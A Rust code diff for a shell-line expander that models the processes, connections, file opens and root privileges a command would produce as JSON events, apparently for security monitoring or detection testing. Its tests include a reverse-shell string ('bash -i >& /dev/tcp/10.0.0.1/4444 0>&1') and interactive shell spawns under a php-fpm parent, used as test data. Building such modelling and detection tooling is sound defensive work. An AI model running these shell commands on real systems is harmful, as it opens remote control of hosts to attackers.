@@ -30,9 +30,15 @@ pub enum Step {
         /// The exec that started its process; `None`: the shell the line
         /// runs in.
         parent: Option<usize>,
-        /// Replaces the program of that exec in the same process (`env`,
-        /// `nohup`, `exec`), so it has that exec's pid and parent.
-        same_process: Option<usize>,
+        /// The process whose program it replaces (`exec`, `env`, `nohup`,
+        /// bash's `-c` of one command): it keeps that process's pid and
+        /// parent. `Some(None)`: the line's shell.
+        replaces: Option<Option<usize>>,
+        /// Runs another program (`sh -c`, `sudo`, `env` …): the addresses and
+        /// files its arguments name are that program's, not its own.
+        wrapper: bool,
+        /// Runs as root (`sudo`, `su`), whoever its parent runs as.
+        as_root: bool,
         argv: Vec<String>,
     },
     /// A file opened by a redirection.
@@ -142,21 +148,45 @@ pub fn expand(line: &str) -> Vec<Step> {
 struct Out {
     steps: Vec<Step>,
     execs: usize,
-    /// Each exec's program name.
+    /// Each exec's program name and step.
     progs: Vec<String>,
+    at: Vec<usize>,
 }
 
 impl Out {
-    fn exec(&mut self, parent: Option<usize>, same: Option<usize>, argv: Vec<String>) -> usize {
+    fn exec(
+        &mut self,
+        parent: Option<usize>,
+        replaces: Option<Option<usize>>,
+        argv: Vec<String>,
+    ) -> usize {
         self.progs
             .push(basename(argv.first().map_or("", |a| a.as_str())).to_string());
+        self.at.push(self.steps.len());
         self.steps.push(Step::Exec {
             parent,
-            same_process: same,
+            replaces,
+            wrapper: false,
+            as_root: false,
             argv,
         });
         self.execs += 1;
         self.execs - 1
+    }
+    fn flag(&mut self, exec: usize, wraps: bool, root: bool) {
+        if let Some(Step::Exec {
+            wrapper, as_root, ..
+        }) = self.at.get(exec).and_then(|&i| self.steps.get_mut(i))
+        {
+            *wrapper |= wraps;
+            *as_root |= root;
+        }
+    }
+    fn wraps(&mut self, exec: usize) {
+        self.flag(exec, true, false);
+    }
+    fn as_root(&mut self, exec: usize) {
+        self.flag(exec, false, true);
     }
     fn full(&self) -> bool {
         self.execs >= MAX_EXECS
@@ -420,8 +450,7 @@ fn redirection(
         i += 1;
     }
     // The target is the next word.
-    let rest: String = c[i..].iter().collect();
-    let mut sub = lex_one_word(&rest);
+    let mut sub = lex_one_word(&c[i..]);
     i += sub.1;
     if op.starts_with("<<") && op != "<<<" {
         heredocs.push((sub.0.text.clone(), op == "<<-"));
@@ -436,9 +465,8 @@ fn redirection(
     i
 }
 
-/// The first word of `s` and how many characters it took.
-fn lex_one_word(s: &str) -> (Word, usize) {
-    let c: Vec<char> = s.chars().collect();
+/// The first word of `c` and how many characters it took.
+fn lex_one_word(c: &[char]) -> (Word, usize) {
     let mut end = 0;
     let (mut sq, mut dq) = (false, false);
     while end < c.len() {
@@ -499,8 +527,11 @@ fn run_script(script: &str, shell: Option<usize>, depth: usize, out: &mut Out) {
         if !end {
             continue;
         }
-        let ws = std::mem::take(&mut words);
+        let mut ws = std::mem::take(&mut words);
         let rs = std::mem::take(&mut redirs);
+        if out.full() {
+            return;
+        }
         let before = out.execs;
         // What follows an interactive program's line is typed into it, not
         // into the shell; only its shell escape (`!cmd`, `:!cmd`) runs
@@ -512,10 +543,17 @@ fn run_script(script: &str, shell: Option<usize>, depth: usize, out: &mut Out) {
                     None,
                     vec!["sh".into(), "-c".into(), cmd.clone()],
                 );
+                out.wraps(sh);
                 run_script(&cmd, Some(sh), depth + 1, out);
             }
             continue;
         }
+        // Keywords start nothing (`then for …`, `do case …`).
+        let lead = ws
+            .iter()
+            .take_while(|w| !w.quoted && KEYWORDS.contains(&w.text.as_str()))
+            .count();
+        ws.drain(..lead);
         // `case … esac` and `for … in …` headers run nothing themselves.
         if in_case {
             in_case = !ws.iter().any(|w| !w.quoted && w.text == "esac");
@@ -534,7 +572,9 @@ fn run_script(script: &str, shell: Option<usize>, depth: usize, out: &mut Out) {
             in_for = true;
             if let Some(p) = ws.iter().position(|w| !w.quoted && w.text == "do") {
                 in_for = false;
-                simple(ws[p + 1..].to_vec(), rs, shell, depth, out);
+                if simple(ws[p + 1..].to_vec(), rs, shell, depth, out) == Ran::Replaced {
+                    return;
+                }
             } else {
                 for w in &ws {
                     for s in &w.subst {
@@ -544,8 +584,8 @@ fn run_script(script: &str, shell: Option<usize>, depth: usize, out: &mut Out) {
             }
             continue;
         }
-        simple(ws, rs, shell, depth, out);
-        if out.full() {
+        if simple(ws, rs, shell, depth, out) == Ran::Replaced {
+            // `exec prog`: the shell is gone; nothing after it runs.
             return;
         }
         if out.execs > before {
@@ -570,29 +610,63 @@ fn shell_escape(ws: &[Word]) -> Option<String> {
     (!cmd.is_empty()).then_some(cmd)
 }
 
+/// What a simple command did to its shell.
+#[derive(Debug, PartialEq, Eq)]
+enum Ran {
+    /// Ran (or started nothing); the shell goes on.
+    Done,
+    /// `exec prog`: the shell's process became prog.
+    Replaced,
+}
+
 /// One simple command in `shell`.
 fn simple(
-    mut ws: Vec<Word>,
+    ws: Vec<Word>,
     rs: Vec<(String, Option<Word>)>,
     shell: Option<usize>,
     depth: usize,
     out: &mut Out,
-) {
-    // Command substitutions run first, in subshells of this shell.
-    for w in ws.iter().chain(rs.iter().filter_map(|(_, t)| t.as_ref())) {
+) -> Ran {
+    command(ws, rs, shell, false, depth, out)
+}
+
+/// A simple command in `shell`; `replace`: it execs in the shell's own
+/// process (`exec prog`, bash's `-c` with one command), not in a child.
+fn command(
+    mut ws: Vec<Word>,
+    mut rs: Vec<(String, Option<Word>)>,
+    shell: Option<usize>,
+    replace: bool,
+    depth: usize,
+    out: &mut Out,
+) -> Ran {
+    if depth > MAX_DEPTH || out.full() {
+        return Ran::Done;
+    }
+    // Command substitutions run first, in subshells of this shell; the
+    // command's arguments carry their output, which is not modelled.
+    for w in ws
+        .iter_mut()
+        .chain(rs.iter_mut().filter_map(|(_, t)| t.as_mut()))
+    {
         for s in &w.subst {
             run_script(s, shell, depth + 1, out);
         }
+        for s in &w.subst {
+            w.text = w
+                .text
+                .replacen(&format!("$({s})"), "", 1)
+                .replacen(&format!("`{s}`"), "", 1);
+        }
     }
-    while ws.first().is_some_and(|w| {
-        !w.quoted && (KEYWORDS.contains(&w.text.as_str()) || w.text.is_empty() && !w.quoted)
-    }) {
-        ws.remove(0);
-    }
-    // Assignments before the command.
-    while ws.first().is_some_and(|w| is_assignment(&w.text)) {
-        ws.remove(0);
-    }
+    // Keywords and assignments before the command.
+    let lead = ws
+        .iter()
+        .take_while(|w| {
+            (!w.quoted && KEYWORDS.contains(&w.text.as_str())) || is_assignment(&w.text)
+        })
+        .count();
+    ws.drain(..lead);
     let opens = |by: Opener, out: &mut Out| {
         for (op, t) in &rs {
             let Some(t) = t else { continue };
@@ -612,21 +686,25 @@ fn simple(
         .first()
         .is_some_and(|w| !w.quoted && w.text.len() > 1 && w.text.starts_with('!'))
     {
-        return;
+        return Ran::Done;
     }
     let Some(first) = ws.first() else {
         opens(Opener::Shell(shell), out);
-        return;
+        return Ran::Done;
     };
+    // An unexpanded variable as the program: which program is unknown.
+    if first.text.starts_with('$') || first.text.is_empty() {
+        return Ran::Done;
+    }
     let prog = basename(&first.text).to_string();
-    // `exec prog`: the shell becomes prog (modelled as its child).
     if prog == "exec" && !first.text.contains('/') {
-        if ws.len() > 1 {
-            simple(ws[1..].to_vec(), rs, shell, depth + 1, out);
-        } else {
-            opens(Opener::Shell(shell), out);
+        // `exec >file`: the shell's own descriptors.
+        opens(Opener::Shell(shell), out);
+        if ws.len() == 1 {
+            return Ran::Done;
         }
-        return;
+        command(ws[1..].to_vec(), Vec::new(), shell, true, depth + 1, out);
+        return Ran::Replaced;
     }
     if BUILTINS.contains(&prog.as_str()) && !first.text.contains('/') {
         opens(Opener::Shell(shell), out);
@@ -637,55 +715,112 @@ fn simple(
             }
             // `command ls`: runs ls.
             "command" | "builtin" if ws.len() > 1 && !ws[1].text.starts_with('-') => {
-                simple(ws[1..].to_vec(), Vec::new(), shell, depth + 1, out);
+                return command(ws[1..].to_vec(), Vec::new(), shell, replace, depth + 1, out);
             }
             _ => {}
         }
-        return;
-    }
-    if out.full() {
-        return;
+        return Ran::Done;
     }
     let argv: Vec<String> = ws.iter().map(|w| w.text.clone()).collect();
-    // The child is forked before it execs: its opens come first.
-    let me = out.execs;
-    opens(Opener::Child { exec: me, shell }, out);
-    let me = out.exec(shell, None, argv.clone());
-    wrapped(&argv, me, shell, depth, out);
+    let me = if replace {
+        // No fork: the shell's process opens the redirections, then execs.
+        opens(Opener::Shell(shell), out);
+        out.exec(shell, Some(shell), argv.clone())
+    } else {
+        // The child is forked before it execs: its opens come first.
+        opens(
+            Opener::Child {
+                exec: out.execs,
+                shell,
+            },
+            out,
+        );
+        out.exec(shell, None, argv.clone())
+    };
+    wrapped(&argv, me, depth, out);
+    Ran::Done
 }
 
 /// What a program that runs another one starts: `sh -c`'s script, `sudo`'s
 /// command, `env`'s program.
-fn wrapped(argv: &[String], me: usize, shell: Option<usize>, depth: usize, out: &mut Out) {
+fn wrapped(argv: &[String], me: usize, depth: usize, out: &mut Out) {
     if depth > MAX_DEPTH || out.full() {
         return;
     }
+    let mut argv = argv;
     let prog = basename(&argv[0]);
-    let prog = if prog == "busybox" && argv.len() > 1 {
-        basename(&argv[1])
-    } else {
-        prog
-    };
+    if prog == "busybox" && argv.len() > 1 {
+        argv = &argv[1..];
+    }
+    let prog = basename(&argv[0]);
     if SHELLS.contains(&prog) {
-        if let Some(p) = argv.iter().position(|a| {
-            a == "-c"
-                || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('c') && a.len() <= 4)
-        }) && let Some(script) = argv.get(p + 1)
-        {
-            run_script(script, Some(me), depth + 1, out);
+        let script = argv
+            .iter()
+            .position(|a| {
+                a == "-c"
+                    || (a.starts_with('-')
+                        && !a.starts_with("--")
+                        && a.ends_with('c')
+                        && a.len() <= 4)
+            })
+            .and_then(|p| argv.get(p + 1));
+        if let Some(script) = script {
+            out.wraps(me);
+            // bash (not dash) runs a `-c` of one simple command in its own
+            // process.
+            match one_command(script).filter(|_| prog != "sh" && prog != "dash" && prog != "ash") {
+                Some((ws, rs)) => {
+                    command(ws, rs, Some(me), true, depth + 1, out);
+                }
+                None => run_script(script, Some(me), depth + 1, out),
+            }
         }
         return;
     }
+    // `su [-] [user] -c cmd`: su forks the user's shell to run it.
     if prog == "su" {
         if let Some(p) = argv.iter().position(|a| a == "-c" || a == "--command")
             && let Some(cmd) = argv.get(p + 1)
         {
+            out.wraps(me);
+            let user = argv[1..p]
+                .iter()
+                .find(|a| !a.starts_with('-'))
+                .map_or("root", |a| a.as_str());
             let sh = out.exec(
                 Some(me),
                 None,
                 vec!["bash".into(), "-c".into(), cmd.clone()],
             );
-            run_script(cmd, Some(sh), depth + 1, out);
+            if user == "root" {
+                out.as_root(sh);
+            }
+            wrapped(
+                &["bash".into(), "-c".into(), cmd.clone()],
+                sh,
+                depth + 1,
+                out,
+            );
+        }
+        return;
+    }
+    // `watch cmd …` and `flock f -c cmd` run their command through `sh -c`.
+    let through_sh = match prog {
+        "watch" if !argv.iter().any(|a| a == "-x" || a == "--exec") => {
+            Some(inner_command(prog, &argv[1..]).join(" "))
+        }
+        "flock" => argv
+            .iter()
+            .position(|a| a == "-c" || a == "--command")
+            .and_then(|p| argv.get(p + 1).cloned()),
+        _ => None,
+    };
+    if let Some(cmd) = through_sh {
+        if !cmd.is_empty() {
+            out.wraps(me);
+            let sh = out.exec(Some(me), None, vec!["sh".into(), "-c".into(), cmd.clone()]);
+            out.wraps(sh);
+            run_script(&cmd, Some(sh), depth + 1, out);
         }
         return;
     }
@@ -697,18 +832,40 @@ fn wrapped(argv: &[String], me: usize, shell: Option<usize>, depth: usize, out: 
     if inner.is_empty() {
         return;
     }
+    out.wraps(me);
     let id = if same {
-        out.exec(shell, Some(me), inner.clone())
+        out.exec(None, Some(Some(me)), inner.clone())
     } else {
         out.exec(Some(me), None, inner.clone())
     };
-    wrapped(
-        &inner,
-        id,
-        if same { shell } else { Some(me) },
-        depth + 1,
-        out,
-    );
+    let user = argv
+        .iter()
+        .position(|a| a == "-u")
+        .and_then(|p| argv.get(p + 1))
+        .map_or("root", |u| u.as_str());
+    if matches!(prog, "sudo" | "doas") && (user == "root" || user == "0") {
+        out.as_root(id);
+    }
+    wrapped(&inner, id, depth + 1, out);
+}
+
+/// The words and redirections of a script that is one simple command.
+type Simple = (Vec<Word>, Vec<(String, Option<Word>)>);
+
+fn one_command(script: &str) -> Option<Simple> {
+    let mut ws = Vec::new();
+    let mut rs = Vec::new();
+    for t in lex(script) {
+        match t {
+            Tok::Word(w) if w.subst.is_empty() => ws.push(w),
+            Tok::Redir { op, target } => rs.push((op, target)),
+            _ => return None,
+        }
+    }
+    let keyword = ws.first().is_some_and(|w| {
+        !w.quoted && (KEYWORDS.contains(&w.text.as_str()) || w.text == "for" || w.text == "case")
+    });
+    (!ws.is_empty() && !keyword).then_some((ws, rs))
 }
 
 /// The command a wrapper runs: its arguments after its own options.
@@ -785,21 +942,25 @@ pub struct Shell<'a> {
 /// addresses); the caller sets the org, workload, host and times. `new_pid`
 /// gives each new process its pid.
 pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -> Vec<JsonEvent> {
+    #[derive(Clone)]
     struct P {
         pid: u32,
         comm: String,
         exe: String,
         ppid: u32,
         parent_comm: String,
+        uid: u32,
     }
-    let root = P {
+    // procs[0]: the line's shell; procs[n + 1]: exec number n's process.
+    let mut procs: Vec<P> = vec![P {
         pid: shell.pid,
         comm: shell.comm.to_string(),
         exe: format!("/usr/bin/{}", shell.comm),
         ppid: shell.ppid,
         parent_comm: shell.parent_comm.to_string(),
-    };
-    let mut procs: Vec<P> = Vec::new();
+        uid: shell.uid,
+    }];
+    let ix = |s: Option<usize>| s.map_or(0, |j| j + 1);
     // Pids handed out to children that opened a redirection before their exec.
     let mut early: std::collections::HashMap<usize, u32> = Default::default();
     let mut out = Vec::new();
@@ -807,8 +968,8 @@ pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -
         kind: Some(kind.into()),
         pid: Some(p.pid),
         ppid: Some(p.ppid),
-        uid: Some(shell.uid),
-        gid: Some(shell.uid),
+        uid: Some(p.uid),
+        gid: Some(p.uid),
         comm: Some(p.comm.clone()),
         parent_comm: Some(p.parent_comm.clone()),
         exe: Some(p.exe.clone()),
@@ -835,11 +996,14 @@ pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -
         match step {
             Step::Exec {
                 parent,
-                same_process,
+                replaces,
+                wrapper,
+                as_root,
                 argv,
             } => {
                 let prog = &argv[0];
-                let comm: String = basename(prog).chars().take(15).collect();
+                let name = basename(prog);
+                let comm: String = name.chars().take(15).collect();
                 let exe = if prog.starts_with('/') {
                     prog.clone()
                 } else if prog.contains('/') {
@@ -849,48 +1013,57 @@ pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -
                         prog.trim_start_matches("./")
                     )
                 } else {
-                    format!("/usr/bin/{comm}")
+                    format!("/usr/bin/{name}")
                 };
-                let me = procs.len();
-                let p = match same_process {
-                    Some(j) => P {
+                let me = procs.len() - 1;
+                let mut p = match replaces {
+                    Some(r) => P {
                         comm,
                         exe,
-                        ..clone_of(&procs[j])
+                        ..procs[ix(r)].clone()
                     },
                     None => {
-                        let up = parent.map_or(&root, |j| &procs[j]);
+                        let up = &procs[ix(parent)];
                         P {
                             pid: early.remove(&me).unwrap_or_else(&mut new_pid),
                             comm,
                             exe,
                             ppid: up.pid,
                             parent_comm: up.comm.clone(),
+                            uid: up.uid,
                         }
                     }
                 };
+                if as_root {
+                    p.uid = 0;
+                }
                 out.push(JsonEvent {
                     argv: Some(argv.clone()),
                     cwd: Some(shell.cwd.to_string()),
                     ..base("exec", &p)
                 });
-                connects(&p, &argv, &mut out);
-                for (path, write) in files(&argv) {
-                    open(&p, path, if write { O_TRUNC_WRITE } else { 0 }, &mut out);
+                if !wrapper {
+                    connects(&p, &argv, &mut out);
+                    for (path, write) in files(&argv, shell.home) {
+                        open(&p, path, if write { O_TRUNC_WRITE } else { 0 }, &mut out);
+                    }
+                }
+                if let Some(r) = replaces {
+                    procs[ix(r)] = p.clone();
                 }
                 procs.push(p);
             }
             Step::Open { by, path, write } => {
                 let p = match by {
-                    Opener::Shell(s) => clone_of(s.map_or(&root, |j| &procs[j])),
+                    Opener::Shell(s) => procs[ix(s)].clone(),
                     Opener::Child { exec, shell: s } => {
-                        let up = s.map_or(&root, |j| &procs[j]);
+                        let up = &procs[ix(s)];
                         let pid = *early.entry(exec).or_insert_with(&mut new_pid);
                         P {
                             pid,
                             ppid: up.pid,
                             parent_comm: up.comm.clone(),
-                            ..clone_of(up)
+                            ..up.clone()
                         }
                     }
                 };
@@ -906,15 +1079,6 @@ pub fn events(line: &str, shell: &Shell<'_>, mut new_pid: impl FnMut() -> u32) -
                     open(&p, path, if write { O_TRUNC_WRITE } else { 0 }, &mut out);
                 }
             }
-        }
-    }
-    fn clone_of(p: &P) -> P {
-        P {
-            pid: p.pid,
-            comm: p.comm.clone(),
-            exe: p.exe.clone(),
-            ppid: p.ppid,
-            parent_comm: p.parent_comm.clone(),
         }
     }
     out
@@ -1038,7 +1202,9 @@ mod tests {
                 },
                 Step::Exec {
                     parent: None,
-                    same_process: None,
+                    replaces: None,
+                    wrapper: false,
+                    as_root: false,
                     argv: vec!["bash".into(), "-i".into()]
                 }
             ]
@@ -1075,7 +1241,9 @@ mod tests {
             s[2],
             Step::Exec {
                 parent: None,
-                same_process: Some(1),
+                replaces: Some(Some(1)),
+                wrapper: false,
+                as_root: false,
                 argv: vec!["./run.sh".into()]
             }
         );
@@ -1085,6 +1253,24 @@ mod tests {
                 (None, "su postgres -c psql -c \"select 1\"".to_string()),
                 (Some(0), "bash -c psql -c \"select 1\"".to_string()),
                 (Some(1), "psql -c select 1".to_string()),
+            ]
+        );
+        // bash runs a `-c` of one command in its own process (dash forks).
+        assert!(matches!(
+            &expand("su postgres -c 'psql -c \"select 1\"'")[2],
+            Step::Exec {
+                replaces: Some(Some(1)),
+                ..
+            }
+        ));
+        // `watch` runs its command through `sh -c`.
+        assert_eq!(
+            execs("watch -n1 'reset; exec /bin/sh'"),
+            [
+                (None, "watch -n1 reset; exec /bin/sh".to_string()),
+                (Some(0), "sh -c reset; exec /bin/sh".to_string()),
+                (Some(1), "reset".to_string()),
+                (Some(1), "/bin/sh".to_string()),
             ]
         );
         assert_eq!(
@@ -1149,6 +1335,44 @@ mod tests {
         assert_eq!(evs[3].remote_port, Some(8080));
         assert_eq!(evs[1].flags, Some(0o1101));
         assert_eq!(evs[7].flags, Some(0));
+        // sudo's command runs as root.
+        assert_eq!(evs[4].uid, Some(33));
+        assert_eq!((evs[5].uid, evs[6].uid), (Some(0), Some(0)));
+
+        // A wrapper's arguments are its command's: one connect, by the
+        // process that makes it; `exec` and bash's one-command `-c` keep
+        // the process.
+        let mut next = 2000;
+        let evs = events(
+            "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\nexec /bin/sh -i",
+            &sh,
+            || {
+                next += 1;
+                next
+            },
+        );
+        let got: Vec<String> = evs
+            .iter()
+            .map(|e| {
+                format!(
+                    "{} {}<{} {}/{}",
+                    e.kind.as_deref().unwrap(),
+                    e.comm.as_deref().unwrap(),
+                    e.parent_comm.as_deref().unwrap(),
+                    e.pid.unwrap(),
+                    e.ppid.unwrap(),
+                )
+            })
+            .collect();
+        assert_eq!(
+            got,
+            [
+                "exec bash<sh 2001/500",
+                "connect bash<sh 2001/500",
+                "exec bash<sh 2001/500",
+                "exec sh<php-fpm8.2 500/400",
+            ]
+        );
     }
 
     #[test]
@@ -1157,6 +1381,16 @@ mod tests {
         assert!(expand(&bomb).len() <= MAX_EXECS * 2);
         let many = "a;".repeat(10_000);
         assert_eq!(execs(&many).len(), MAX_EXECS);
+        // Deep wrappers, long keyword runs, many redirections and shell
+        // escapes stay bounded too.
+        assert!(execs(&"exec ".repeat(100_000)).len() <= MAX_EXECS);
+        assert!(execs(&("if ".repeat(100_000) + "id")).len() <= 1);
+        assert!(execs(&(">a ".repeat(20_000) + "id")).len() <= 1);
+        assert_eq!(
+            execs(&("vi\n".to_string() + &"!x\n".repeat(10_000))).len(),
+            MAX_EXECS
+        );
+        assert!(execs(&"sudo ".repeat(10_000)).len() <= MAX_EXECS);
         for s in [
             "'",
             "\"",
